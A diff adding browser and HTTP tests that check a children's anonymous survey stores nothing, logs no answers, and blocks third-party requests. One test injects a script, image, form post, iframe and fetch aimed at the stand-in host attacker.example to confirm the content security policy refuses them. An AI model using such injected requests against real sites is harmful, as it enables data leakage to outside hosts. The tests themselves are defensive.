@@ -1,0 +1,267 @@
+"""The anonymity contract in a real browser: each test is named after its rule and plays the attacker."""
+
+from __future__ import annotations
+
+import random
+import re
+from collections.abc import Iterator
+from pathlib import Path
+
+import httpx
+import pytest
+from playwright.sync_api import Browser, BrowserContext, Page, Request, expect, sync_playwright
+
+from forms.load import load_survey
+from forms.survey import Survey
+from tests.functional.browser import launch
+from tests.functional.door import Wave, child_door, open_wave
+from tests.functional.html_form import read_page
+from tests.functional.walking import answers_for, send, start, walk
+
+CANARY = "Zquorvexil"
+FORMS = list(load_survey().forms)
+STORES = """async () => ({
+    local: localStorage.length, session: sessionStorage.length, cookie: document.cookie,
+    databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length,
+    workers: (await navigator.serviceWorker.getRegistrations()).length,
+    files: (await Array.fromAsync((await navigator.storage.getDirectory()).keys())).length,
+})"""
+
+
+@pytest.fixture(scope="module")
+def survey() -> Survey:
+    return load_survey()
+
+
+@pytest.fixture(scope="module")
+def wave(tmp_path_factory: pytest.TempPathFactory) -> Wave:
+    return open_wave(tmp_path_factory.mktemp("wave") / "home")
+
+
+@pytest.fixture(scope="module")
+def door(wave: Wave, survey: Survey) -> Iterator[str]:
+    with child_door(wave, survey) as address:
+        yield address
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Browser]:
+    with sync_playwright() as playwright, launch(playwright) as browser:
+        yield browser
+
+
+@pytest.fixture
+def client(door: str) -> Iterator[httpx.Client]:
+    with httpx.Client(base_url=door) as client:
+        yield client
+
+
+def answer(page: Page, door: str, form_id: str) -> None:
+    """Answer a whole form in the browser, with a canary in every box."""
+    page.goto(f"{door}/{form_id}")
+    page.click("button[value=start]")
+    while True:
+        expect(page.locator("progress, .govuk-panel")).to_be_visible()
+        if page.locator(".govuk-panel").is_visible():
+            return
+        if page.locator("input[type=radio][name=where_live]").count():
+            page.check("input[type=radio][value=parents]")
+        else:
+            for other in page.locator("input[value=other]:not([type=hidden])").all():
+                other.check()
+            for box in page.locator("textarea, input[type=text]").all():
+                box.fill(CANARY)
+            for name in {radio.get_attribute("name") for radio in page.locator("input[type=radio]").all()}:
+                page.locator(f"input[type=radio][name='{name}']").last.check()
+            if not page.locator("textarea, input[type=text], input[type=radio]").count():
+                page.locator("input[type=checkbox]").last.check()
+        before = page.title()
+        page.click("button[value=next]")
+        expect(page).not_to_have_title(before)
+
+
+@pytest.fixture(scope="module")
+def journey(chromium: Browser, door: str) -> Iterator[tuple[Page, BrowserContext, list[Request]]]:
+    """A browser that has just answered a whole form, and every request it made."""
+    with chromium.new_context() as context:
+        requests: list[Request] = []
+        context.on("request", lambda request: requests.append(request))  # noqa: PLW0108 - Playwright marks its handlers
+        page = context.new_page()
+        answer(page, door, "9-12")
+        assert page.url == f"{door}/9-12/thank-you"
+        yield page, context, requests
+
+
+Journey = tuple[Page, BrowserContext, list[Request]]
+
+
+def test_a1_nothing_is_left_in_any_store_of_the_browser(journey: Journey) -> None:
+    page, context, requests = journey
+    assert context.cookies() == []
+    assert page.evaluate(STORES) == {"local": 0, "session": 0, "cookie": "", "databases": 0, "caches": 0, "workers": 0, "files": 0}
+    for request in requests:
+        response = request.response()
+        assert response is None or "set-cookie" not in response.all_headers()
+        assert "cookie" not in request.all_headers()
+
+
+def test_a3_every_request_goes_to_us_and_says_nothing_of_where_it_came_from(journey: Journey, door: str) -> None:
+    _, _, requests = journey
+    assert len(requests) > 20
+    for request in requests:
+        assert request.url.startswith(door), request.url
+        assert not request.all_headers().get("referer")
+
+
+def test_a3_the_browser_refuses_whatever_is_smuggled_into_a_page(chromium: Browser, door: str) -> None:
+    with chromium.new_context() as context:
+        asked: list[Request] = []
+        context.on("request", lambda request: asked.append(request))  # noqa: PLW0108 - Playwright marks its handlers
+        page = context.new_page()
+        page.goto(f"{door}/9-12")
+        page.evaluate(
+            """() => {
+                const script = document.createElement("script");
+                script.textContent = "window.smuggled = true";
+                const picture = new Image();
+                picture.src = "https://attacker.example/x.png";
+                const form = document.createElement("form");
+                form.method = "post";
+                form.action = "https://attacker.example/";
+                const frame = document.createElement("iframe");
+                frame.src = "https://attacker.example/";
+                document.body.append(script, picture, form, frame);
+                form.submit();
+                fetch("https://attacker.example/").catch(() => { window.refused = true });
+            }"""
+        )
+        page.wait_for_function("window.refused")
+        assert page.evaluate("window.smuggled") is None
+        assert {request.failure for request in asked if "attacker" in request.url} <= {"csp"}  # announced, and then not sent
+        assert page.url == f"{door}/9-12"
+
+
+@pytest.mark.parametrize("path", ["/", "/9-12", "/9-12/thank-you", "/9-12/exit", "/parents", "/nothing-here", "/health/live"])
+def test_a3_a10_every_page_forbids_third_parties_and_storing(client: httpx.Client, path: str) -> None:
+    headers = client.get(path).headers
+    policy = dict(part.split(" ", 1) for part in headers["content-security-policy"].split("; "))
+    assert policy.pop("default-src") == policy.pop("base-uri") == policy.pop("frame-ancestors") == "'none'"
+    assert set(policy.values()) == {"'self'"}
+    assert headers["referrer-policy"] == "no-referrer"
+    assert "no-store" in headers["cache-control"]
+    assert not {"set-cookie", "server", "etag", "last-modified"} & set(headers)
+
+
+def test_a9_no_answer_is_ever_in_an_address(journey: Journey) -> None:
+    _, _, requests = journey
+    assert [request for request in requests if CANARY in (request.post_data or "")], "the canaries were not sent at all"
+    for request in requests:
+        assert CANARY not in request.url
+        assert "?" not in request.url
+
+
+def test_a10_back_and_forward_after_the_end_show_no_answer(chromium: Browser, door: str) -> None:
+    with chromium.new_context() as context:
+        page = context.new_page()
+        page.goto(f"{door}/robots.txt")
+        answer(page, door, "9-12")
+        for move in (page.go_back, page.go_back, page.go_forward, page.go_forward):
+            move()
+            assert CANARY not in page.content()
+            assert not page.locator("input[type=hidden]").count()
+
+
+def test_a10_a_page_that_comes_back_from_the_cache_has_forgotten_what_was_typed(chromium: Browser, door: str) -> None:
+    with chromium.new_context() as context:
+        page = context.new_page()
+        page.goto(f"{door}/6-8")
+        page.click("button[value=start]")
+        page.check("input[value=sad]")
+        page.click("button[value=next]")
+        expect(page.locator("input[type=hidden][name=feelings]")).to_have_count(1)
+        page.goto(f"{door}/help")
+        page.go_back()
+        assert not page.locator("input[type=hidden]").count()
+        assert not page.locator("input:checked").count()
+
+
+def test_a11_the_browser_is_told_to_clear_at_the_end_and_at_the_way_out(client: httpx.Client) -> None:
+    for form_id in FORMS:
+        for page in ("thank-you", "already-sent", "exit"):
+            assert client.get(f"/{form_id}/{page}").headers["clear-site-data"] == '"cache", "storage"'
+
+
+@pytest.mark.parametrize("form_id", FORMS)
+def test_a12_a13_no_box_sends_its_words_anywhere_and_every_page_has_a_way_out(client: httpx.Client, survey: Survey, form_id: str) -> None:
+    form = survey.forms[form_id]
+    page, chance, boxes = start(client, form_id), random.Random(1), 0
+    while True:
+        reply = send(client, form_id, page.post("next", *answers_for(form, page, chance)))
+        if reply.status_code == 303:
+            break
+        for tag in re.findall(r"<(?:textarea|input)\b[^>]*>", reply.text):
+            if "textarea" in tag or 'type="text"' in tag:
+                boxes += 1
+                for wanted in ('spellcheck="false"', 'autocomplete="off"', 'autocorrect="off"', 'autocapitalize="off"', 'translate="no"'):
+                    assert wanted in tag
+            elif 'type="hidden"' not in tag:
+                assert 'autocomplete="o' in tag
+        assert f'href="/{form_id}/exit"' in reply.text
+        assert form.words["exit_note"].replace("'", "&#39;") in reply.text
+        page = read_page(reply.text)
+    assert boxes
+
+
+def test_a15_a_double_click_on_send_stores_one_response(chromium: Browser, door: str, wave: Wave) -> None:
+    before = wave.store.count()
+    with chromium.new_context() as context:
+        page = context.new_page()
+        page.goto(f"{door}/4-5")
+        page.click("button[value=start]")
+        for number in range(3):
+            page.wait_for_function("n => document.title.includes(n)", arg=f"{number + 1} ")
+            page.locator("input[type=checkbox]").last.check()
+            page.click("button[value=next]")
+        expect(page.locator("textarea")).to_be_visible()
+        page.locator("input[name=parent_important]").last.check()
+        page.dblclick("button[value=next]")
+        page.wait_for_url(re.compile("thank-you|already-sent"))
+    assert wave.store.count() == before + 1
+
+
+def test_a15_a_post_replayed_after_the_end_shows_no_answer_but_says_it_was_sent(client: httpx.Client, survey: Survey) -> None:
+    """What Back and "send the form again" do in a browser without JavaScript, on a tablet that two children share."""
+    page, last, _ = walk(client, survey.forms["9-12"], seed=1)
+    middle = page.post("back", *last)
+    assert send(client, "9-12", page.post("next", *last)).headers["location"] == "/9-12/thank-you"
+    replayed = send(client, "9-12", middle)
+    assert replayed.headers["location"] == "/9-12/already-sent"
+    assert "quotes" not in replayed.text
+
+
+def test_a2_a_crash_and_a_refusal_leave_no_word_of_the_child_in_any_log(
+    client: httpx.Client, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str], survey: Survey
+) -> None:
+    caplog.set_level(0)
+    page = start(client, "9-12")
+    for pairs in ([*page.hidden, ("action", "next"), (CANARY, CANARY)], [*page.hidden, ("action", CANARY)]):
+        assert send(client, "9-12", pairs).status_code == 400
+    client.post("/9-12", content=CANARY.encode() + b"\xff%zz", headers={"content-type": "application/x-www-form-urlencoded"})
+    client.get(f"/{CANARY}")
+    output = capfd.readouterr()
+    door_records = [record for record in caplog.records if not record.name.startswith(("httpx", "httpcore", "asyncio"))]
+    assert CANARY not in output.out + output.err + "".join(record.getMessage() for record in door_records)
+    assert not [record for record in door_records if record.name.startswith("uvicorn.access")]
+
+
+def test_a2_the_server_believes_no_header_about_who_is_asking_and_keeps_none(wave: Wave, client: httpx.Client, survey: Survey) -> None:
+    client.headers.update(
+        {"user-agent": CANARY, "cookie": f"a={CANARY}", "x-forwarded-for": "203.0.113.77", "referer": f"https://{CANARY}.example/"}
+    )
+    page, last, _ = walk(client, survey.forms["4-5"], seed=9)
+    assert send(client, "4-5", page.post("next", *last)).status_code == 303
+    for path in Path(wave.settings.home).rglob("*"):
+        if path.is_file():
+            stored = path.read_bytes()
+            assert CANARY.encode() not in stored, path.name
+            assert b"203.0.113.77" not in stored, path.name
